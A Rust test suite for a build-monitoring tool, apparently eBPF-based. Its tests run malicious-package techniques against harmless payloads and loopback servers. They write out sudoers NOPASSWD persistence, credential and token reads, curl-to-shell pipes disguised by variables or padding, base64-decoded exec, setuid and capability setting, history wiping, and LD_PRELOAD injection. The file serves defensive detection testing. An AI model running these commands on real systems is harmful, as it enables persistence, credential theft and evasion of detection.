//! Techniques a malicious package uses once it runs, each seen for what it does to the
//! system rather than how the command was spelled: persistence through system files, reads
//! of credential stores, the container daemon's socket.
//!
//! The system paths are written inside a private mount namespace whose /etc and /run are
//! overlays on the real ones (the upper layers in the test's directory): the paths the build
//! uses are the real names, and nothing reaches the machine's own files.

use std::fs;

use buildwatch_tests::*;

/// `unshare -m` with overlays on /etc and /run, then buildwatch.
fn overlay_ns(tmp: &TempDir) -> Vec<String> {
    for d in ["etc-up", "etc-work", "run-up", "run-work"] {
        fs::create_dir_all(tmp.join(d)).unwrap();
    }
    let t = tmp.path().display().to_string();
    vec![
        "unshare".into(),
        "-m".into(),
        "sh".into(),
        "-c".into(),
        format!(
            "mount -t overlay overlay -o lowerdir=/etc,upperdir={t}/etc-up,workdir={t}/etc-work /etc && \
             mount -t overlay overlay -o lowerdir=/run,upperdir={t}/run-up,workdir={t}/run-work /run && \
             exec \"$@\""
        ),
        "sh".into(),
    ]
}

/// Every rule among the findings and their parts.
fn rules_of(w: &Watched) -> Vec<String> {
    w.rules()
}

#[test]
fn system_persistence_paths_are_findings() {
    if !require_bpf() {
        return;
    }
    let tmp = TempDir::new("persist-system");
    let home = tmp.join("home");
    fs::create_dir_all(&home).unwrap();
    let ns = overlay_ns(&tmp);
    let ns: Vec<&str> = ns.iter().map(String::as_str).collect();
    // An empty preload list loads nothing; the overlay keeps it in the test's directory.
    let script = "set -e; : > /etc/ld.so.preload; \
                  mkdir -p /etc/sudoers.d; echo 'ci ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/zz-bw; \
                  printf '#!/bin/sh\\n' > /etc/init.d/bw-test; \
                  mkdir -p \"$HOME/.config/autostart\"; echo '[Desktop Entry]' > \"$HOME/.config/autostart/bw.desktop\";";
    let w = watch_via(
        &tmp,
        tmp.path(),
        &[("HOME", home.display().to_string())],
        &ns,
        &[],
        &["sh", "-c", script],
    );
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    // Nothing reached the machine's own /etc.
    assert!(!std::path::Path::new("/etc/sudoers.d/zz-bw").exists());
    assert!(!std::path::Path::new("/etc/init.d/bw-test").exists());
    let rules = rules_of(&w);
    for (rule, severity) in [
        ("write-ld-preload", "critical"),
        ("write-sudoers", "critical"),
        ("write-init-script", "high"),
        ("write-autostart", "high"),
    ] {
        assert!(
            rules.contains(&rule.to_owned()),
            "{rule} missing: {rules:?}"
        );
        assert_eq!(w.finding(rule)["severity"], severity, "{rule}");
    }
    let m = w.finding("write-ld-preload")["message"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(m.ends_with(" wrote /etc/ld.so.preload"), "{m}");
}

#[test]
fn credential_stores_are_sensitive_files() {
    if !require_bpf() {
        return;
    }
    let tmp = TempDir::new("cred-stores");
    let home = tmp.join("home");
    let files = [
        ".bash_history",
        ".zsh_history",
        ".gnupg/private-keys-v1.d/0123ABCD.key",
        ".gnupg/secring.gpg",
        ".password-store/ci/deploy.gpg",
        ".local/share/keyrings/login.keyring",
    ];
    for f in files {
        let p = home.join(f);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(&p, "x\n").unwrap();
    }
    let ns = overlay_ns(&tmp);
    let ns: Vec<&str> = ns.iter().map(String::as_str).collect();
    let token = "/run/secrets/kubernetes.io/serviceaccount/token";
    let script = format!(
        "mkdir -p /run/secrets/kubernetes.io/serviceaccount && echo t > {token} && \
         cat {files} /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null",
        files = files
            .iter()
            .map(|f| format!("\"$HOME/{f}\""))
            .collect::<Vec<_>>()
            .join(" "),
    );
    let w = watch_via(
        &tmp,
        tmp.path(),
        &[("HOME", home.display().to_string())],
        &ns,
        &[],
        &["sh", "-c", &script],
    );
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    let reads: Vec<String> = w.messages("sensitive-file-read");
    for f in files {
        let path = home.join(f).display().to_string();
        assert!(
            reads.iter().any(|m| m.ends_with(&path)),
            "no read of {path}: {reads:#?}"
        );
    }
    assert!(
        reads
            .iter()
            .any(|m| m.contains("/secrets/kubernetes.io/serviceaccount/token")),
        "no read of the service-account token: {reads:#?}"
    );
}

#[test]
fn the_container_daemon_socket_is_a_finding() {
    if !require_bpf() {
        return;
    }
    let tmp = TempDir::new("docker-sock");
    let ns = overlay_ns(&tmp);
    let ns: Vec<&str> = ns.iter().map(String::as_str).collect();
    // A listener where dockerd's socket would be (in the overlay), and a client of it.
    let script = "import socket\n\
                  l = socket.socket(socket.AF_UNIX); l.bind('/run/docker.sock'); l.listen(1)\n\
                  c = socket.socket(socket.AF_UNIX); c.connect('/var/run/docker.sock'); c.close()\n";
    let w = watch_via(&tmp, tmp.path(), &[], &ns, &[], &["python3", "-c", script]);
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    let f = w.finding("docker-socket-in-build");
    assert_eq!(f["severity"], "high");
    assert!(
        f["message"]
            .as_str()
            .is_some_and(|m| m.ends_with("socket /var/run/docker.sock")),
        "{f:#}"
    );
}

#[test]
fn interpreters_running_decoded_code_are_findings() {
    if !require_bpf() {
        return;
    }
    let tmp = TempDir::new("decoded-code");
    // Both print "1": the decoded code is harmless, its shape is not.
    for (name, cmd) in [
        (
            "python",
            vec![
                "python3",
                "-c",
                "import base64;exec(base64.b64decode('cHJpbnQoMSk='))",
            ],
        ),
        (
            "node",
            vec![
                "node",
                "-e",
                "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())",
            ],
        ),
    ] {
        let w = watch(&tmp, tmp.path(), &[], &[], &cmd);
        assert_eq!(String::from_utf8_lossy(&w.out.stdout).trim(), "1", "{name}");
        assert_eq!(w.out.status.code(), Some(86), "{name}: {}", w.stderr());
        let f = w.finding("interpreter-runs-decoded-code");
        assert_eq!(f["severity"], "high", "{name}: {f:#}");
    }
}

/// An HTTP server on loopback answering every request with `body` (at most `n` requests, for
/// at most a minute): the "attacker's" download.
fn serve(body: &'static str, n: usize) -> u16 {
    use std::io::{Read, Write};
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    l.set_nonblocking(true).unwrap();
    std::thread::spawn(move || {
        let end = std::time::Instant::now() + std::time::Duration::from_secs(60);
        let mut served = 0;
        while served < n && std::time::Instant::now() < end {
            match l.accept() {
                Ok((mut c, _)) => {
                    let _ = c.set_nonblocking(false);
                    let _ = c.set_read_timeout(Some(std::time::Duration::from_secs(5)));
                    let mut buf = [0u8; 2048];
                    let _ = c.read(&mut buf);
                    let _ = write!(
                        c,
                        "HTTP/1.0 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                        body.len()
                    );
                    served += 1;
                }
                Err(_) => std::thread::sleep(std::time::Duration::from_millis(10)),
            }
        }
    });
    port
}

/// `curl … | sh` in the spellings the command-line rules cannot read: in a script file,
/// through variables, after 4 KB of padding, as the 65th argument; and `curl … | python3`
/// in a script. Each is caught from what the kernel says the processes' standard input and
/// output are, and from curl's connection.
#[test]
fn network_data_piped_into_an_interpreter_is_caught_however_it_is_spelled() {
    if !require_bpf() {
        return;
    }
    let sh_port = serve("echo pwned-sh\n", 16);
    let py_port = serve("print('pwned-py')\n", 4);
    let tmp = TempDir::new("pipe-network");
    let url = format!("http://127.0.0.1:{sh_port}/i.sh");
    fs::write(tmp.join("install.sh"), format!("curl -s {url} | /bin/sh\n")).unwrap();
    fs::write(
        tmp.join("setup.sh"),
        format!("curl -s http://127.0.0.1:{py_port}/i.py | python3\n"),
    )
    .unwrap();
    let padded = format!(
        "{}curl -s {url} | sh",
        ": padding-padding-padding;".repeat(160)
    );
    let variables = format!("D=curl; S=/bin/sh; $D -s {url} | $S");
    let mut far: Vec<String> = ["sh", "-c", "eval \"${65}\"", "x"]
        .iter()
        .map(|s| s.to_string())
        .collect();
    far.extend((1..=64).map(|i| format!("a{i}")));
    far.push(format!("curl -s {url} | sh"));
    let cases: Vec<(&str, Vec<String>, &str)> = vec![
        (
            "script file",
            vec!["sh".into(), "install.sh".into()],
            "pwned-sh",
        ),
        (
            "variables",
            vec!["sh".into(), "-c".into(), variables],
            "pwned-sh",
        ),
        (
            "padding",
            vec!["sh".into(), "-c".into(), padded],
            "pwned-sh",
        ),
        ("argv[68]", far, "pwned-sh"),
        ("python", vec!["sh".into(), "setup.sh".into()], "pwned-py"),
    ];
    for (name, cmd, printed) in cases {
        let cmd: Vec<&str> = cmd.iter().map(String::as_str).collect();
        let w = watch(&tmp, tmp.path(), &[], &[], &cmd);
        let out = String::from_utf8_lossy(&w.out.stdout).into_owned();
        assert!(
            out.contains(printed),
            "{name}: the payload did not run: {out} {}",
            w.stderr()
        );
        assert_eq!(w.out.status.code(), Some(86), "{name}: {}", w.stderr());
        let f = w.finding("network-data-piped-to-interpreter");
        assert_eq!(f["severity"], "critical", "{name}: {f:#}");
        let m = f["message"].as_str().unwrap();
        assert!(m.contains("curl |"), "{name}: {m}");
    }
}

/// `echo "$PAYLOAD" | $decoder | /bin/bash`: the decoder is the program the variable named.
#[test]
fn a_decoder_feeding_a_shell_is_caught_by_what_it_runs() {
    if !require_bpf() {
        return;
    }
    let tmp = TempDir::new("pipe-decoder");
    let script = "PAYLOAD=$(printf 'echo pwned' | base64); decoder='base64 -d'; \
                  echo \"$PAYLOAD\" | $decoder | /bin/bash";
    let w = watch(&tmp, tmp.path(), &[], &[], &["sh", "-c", script]);
    assert_eq!(String::from_utf8_lossy(&w.out.stdout).trim(), "pwned");
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    let f = w.finding("decoded-data-piped-to-interpreter");
    assert_eq!(f["severity"], "high", "{f:#}");
    assert_eq!(
        f["message"],
        "base64 decoded a program into bash through a pipe"
    );
    // The command-line rule cannot read this spelling.
    assert!(!w.rules().contains(&"decode-piped-to-shell".to_owned()));
}

/// The tj-actions shape: a decoded file made executable and run. The shell opened the file;
/// base64, whose standard output it was, wrote it.
#[test]
fn a_decoded_file_made_executable_and_run_is_caught() {
    if !require_bpf() {
        return;
    }
    let tmp = TempDir::new("decoded-file");
    let a = tmp.join("a.sh");
    let script = format!(
        "printf '#!/bin/sh\\necho pwned\\n' | base64 > x.b64; cat x.b64 | base64 -d > {a}; \
         chmod +x {a}; {a}",
        a = a.display()
    );
    let w = watch(&tmp, tmp.path(), &[], &[], &["sh", "-c", &script]);
    assert_eq!(String::from_utf8_lossy(&w.out.stdout).trim(), "pwned");
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    let f = w.finding("exec-decoded-file");
    assert_eq!(f["severity"], "high", "{f:#}");
    assert!(
        f["message"]
            .as_str()
            .unwrap()
            .ends_with("written by base64"),
        "{f:#}"
    );
}

/// A downloaded file made executable and setuid, then removed; shell histories removed and
/// emptied. Each seen by the kernel's mode-change and unlink calls (chmod, fchmodat, unlinkat
/// under the coreutils), whatever the command line said.
#[test]
fn mode_changes_and_removals_are_findings() {
    if !require_bpf() {
        return;
    }
    let port = serve("#!/bin/sh\necho hi\n", 4);
    let tmp = TempDir::new("chmod-unlink");
    let home = tmp.join("home");
    fs::create_dir_all(&home).unwrap();
    fs::write(home.join(".bash_history"), "aws configure\n").unwrap();
    fs::write(home.join(".zsh_history"), "export TOKEN=x\n").unwrap();
    let script = format!(
        "curl -s http://127.0.0.1:{port}/p -o p && chmod +x p && chmod u+s p && rm -f p && \
         rm \"$HOME/.bash_history\" && : > \"$HOME/.zsh_history\""
    );
    let w = watch(
        &tmp,
        tmp.path(),
        &[("HOME", home.display().to_string())],
        &[],
        &["sh", "-c", &script],
    );
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    let evs = w.events();
    let modes: Vec<&str> = evs
        .iter()
        .filter(|e| e["kind"] == "chmod")
        .filter_map(|e| e["chmod"]["mode"].as_str())
        .collect();
    assert!(modes.iter().any(|m| m.ends_with("755")), "{modes:?}");
    assert!(modes.iter().any(|m| m.starts_with('4')), "{modes:?}");
    let rules = w.rules();
    for rule in [
        "downloaded-file-made-executable",
        "setuid-bit-set",
        "downloaded-file-deleted",
        "history-cleared",
    ] {
        assert!(
            rules.contains(&rule.to_owned()),
            "{rule} missing: {rules:?}"
        );
    }
    let cleared: Vec<String> = w.messages("history-cleared");
    for h in [".bash_history", ".zsh_history"] {
        assert!(cleared.iter().any(|m| m.ends_with(h)), "{h}: {cleared:?}");
    }
    assert!(
        w.finding("downloaded-file-made-executable")["message"]
            .as_str()
            .unwrap()
            .ends_with("written by curl"),
    );
}

/// `LD_PRELOAD=/tmp/x.so cmd` and `NODE_OPTIONS=--require hook.js node …` with files the run
/// wrote: read from the kernel's copy of each new program's environment.
#[test]
fn code_injection_variables_naming_planted_files_are_findings() {
    if !require_bpf() {
        return;
    }
    let tmp = TempDir::new("inject-env");
    let d = tmp.path().display().to_string();
    let script = format!(
        ": > {d}/x.so && printf 'console.log(\"hooked\")\\n' > {d}/hook.js && \
         LD_PRELOAD={d}/x.so /bin/true 2>/dev/null; \
         NODE_OPTIONS=\"--require {d}/hook.js\" node -e 0"
    );
    let w = watch(&tmp, tmp.path(), &[], &[], &["sh", "-c", &script]);
    assert!(
        String::from_utf8_lossy(&w.out.stdout).contains("hooked"),
        "the hook did not run"
    );
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    let evs = w.events();
    let true_exec = evs
        .iter()
        .find(|e| {
            e["kind"] == "exec" && e["exec"]["path"] == "/bin/true"
                || e["exec"]["path"] == "/usr/bin/true"
        })
        .expect("the exec of true");
    assert_eq!(true_exec["exec"]["env"]["LD_PRELOAD"], format!("{d}/x.so"));
    let msgs: Vec<String> = w.report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "code-injection-variable")
        .map(|f| f["message"].as_str().unwrap().to_owned())
        .collect();
    for var in [
        format!("LD_PRELOAD points at {d}/x.so"),
        format!("NODE_OPTIONS points at {d}/hook.js"),
    ] {
        assert!(msgs.iter().any(|m| m.starts_with(&var)), "{var}: {msgs:?}");
    }
}

/// A TCP listener on every address (a bind shell's first step) is seen at bind, from the
/// kernel's copy of the address; a loopback one and a port-0 bind are not findings.
#[test]
fn binds_are_seen_and_a_listener_on_the_network_is_a_finding() {
    if !require_bpf() {
        return;
    }
    let tmp = TempDir::new("bind");
    // Nothing connects to it, and it closes at once.
    let py = "import socket, random\n\
              lo = socket.socket(); lo.bind(('127.0.0.1', 0)); lo.close()\n\
              for _ in range(50):\n\
              \x20   s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
              \x20   port = random.randint(20000, 40000)\n\
              \x20   try:\n\
              \x20       s.bind(('0.0.0.0', port)); s.listen(1); s.close(); print(port); break\n\
              \x20   except OSError:\n\
              \x20       s.close()\n";
    let w = watch(&tmp, tmp.path(), &[], &[], &["python3", "-c", py]);
    let port: u64 = String::from_utf8_lossy(&w.out.stdout)
        .trim()
        .parse()
        .expect("a port");
    let evs = w.events();
    let binds: Vec<&Value> = evs.iter().filter(|e| e["kind"] == "bind").collect();
    let any = binds
        .iter()
        .find(|e| e["bind"]["address"] == "0.0.0.0")
        .unwrap_or_else(|| panic!("no bind of 0.0.0.0: {binds:#?}"));
    assert_eq!(any["bind"]["port"], port);
    assert_eq!(any["bind"]["protocol"], "tcp");
    assert!(binds.iter().any(|e| e["bind"]["address"] == "127.0.0.1"));
    let f = w.finding("listener-in-build");
    assert!(
        f["message"]
            .as_str()
            .unwrap()
            .ends_with(&format!("listens on 0.0.0.0 port {port}")),
        "{f:#}"
    );
    let listeners = w.report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "listener-in-build")
        .count();
    assert_eq!(listeners, 1, "the loopback bind is not a finding");
}

/// The download made executable and removed through a symlinked directory: the writer is
/// known by the resolved path, so the detour hides nothing.
#[test]
fn mode_changes_through_a_symlinked_directory_are_still_findings() {
    if !require_bpf() {
        return;
    }
    let port = serve("#!/bin/sh\necho hi\n", 4);
    let tmp = TempDir::new("chmod-symlink");
    let script = format!(
        "mkdir d && ln -s d l && curl -s http://127.0.0.1:{port}/p -o d/p && chmod +x l/p && rm l/p"
    );
    let w = watch(&tmp, tmp.path(), &[], &[], &["sh", "-c", &script]);
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    let rules = w.rules();
    for rule in ["downloaded-file-made-executable", "downloaded-file-deleted"] {
        assert!(
            rules.contains(&rule.to_owned()),
            "{rule} missing: {rules:?}"
        );
    }
    let evs = w.events();
    let chmod = evs
        .iter()
        .find(|e| e["kind"] == "chmod")
        .expect("a chmod event");
    assert!(
        chmod["chmod"]["target"]
            .as_str()
            .is_some_and(|t| t.ends_with("/d/p")),
        "{chmod:#}"
    );
}

/// setcap (the real tool) gives a copied binary a capability: the security.capability
/// attribute is seen being set.
#[test]
fn file_capabilities_set_by_the_build_are_findings() {
    if !require_bpf() {
        return;
    }
    let tmp = TempDir::new("setcap");
    let w = watch(
        &tmp,
        tmp.path(),
        &[],
        &[],
        &[
            "sh",
            "-c",
            "cp /bin/true ./t && setcap cap_net_raw+ep ./t && getcap ./t",
        ],
    );
    assert!(
        String::from_utf8_lossy(&w.out.stdout).contains("cap_net_raw"),
        "setcap did not work: {}",
        w.stderr()
    );
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    let evs = w.events();
    let x = evs
        .iter()
        .find(|e| e["kind"] == "setxattr")
        .unwrap_or_else(|| panic!("no setxattr event"));
    assert_eq!(x["setxattr"]["name"], "security.capability");
    let f = w.finding("capability-set");
    assert!(f["message"].as_str().unwrap().ends_with("/t"), "{f:#}");
}

/// A history emptied without opening it for truncation: Python's os.truncate (truncate(2) by
/// path) and coreutils' `truncate -s0` (an open for writing without O_TRUNC, then
/// ftruncate(2)). Both are `history-cleared`; truncating a build file is nothing.
#[test]
fn histories_emptied_by_truncate_are_found() {
    if !require_bpf() {
        return;
    }
    let tmp = TempDir::new("truncate");
    let home = tmp.join("home");
    std::fs::create_dir_all(&home).unwrap();
    let (bash, zsh, out) = (
        home.join(".bash_history"),
        home.join(".zsh_history"),
        tmp.join("build.log"),
    );
    for f in [&bash, &zsh, &out] {
        std::fs::write(f, "aws configure\n").unwrap();
    }
    let script = format!(
        "python3 -c 'import os, sys; os.truncate(sys.argv[1], 0)' {b} && truncate -s0 {z} && truncate -s0 {o}",
        b = bash.display(),
        z = zsh.display(),
        o = out.display()
    );
    let w = watch(&tmp, tmp.path(), &[], &[], &["sh", "-c", &script]);
    assert_eq!(std::fs::metadata(&bash).unwrap().len(), 0);
    let evs = w.events();
    let truncated = |syscall: &str, path: &std::path::Path| {
        evs.iter().any(|e| {
            e["kind"] == "truncate"
                && e["truncate"]["syscall"] == syscall
                && e["truncate"]["path"] == path.display().to_string()
                && e["truncate"]["length"] == 0
        })
    };
    assert!(truncated("truncate", &bash), "{}", w.stderr());
    assert!(truncated("ftruncate", &zsh), "{}", w.stderr());
    let cleared: Vec<String> = w.messages("history-cleared");
    assert_eq!(cleared.len(), 2, "{cleared:?}");
    assert!(
        cleared.iter().any(|m| m.ends_with(".bash_history")),
        "{cleared:?}"
    );
    assert!(
        cleared.iter().any(|m| m.ends_with(".zsh_history")),
        "{cleared:?}"
    );
    assert_replay_matches(&w, tmp.path(), &[]);
}
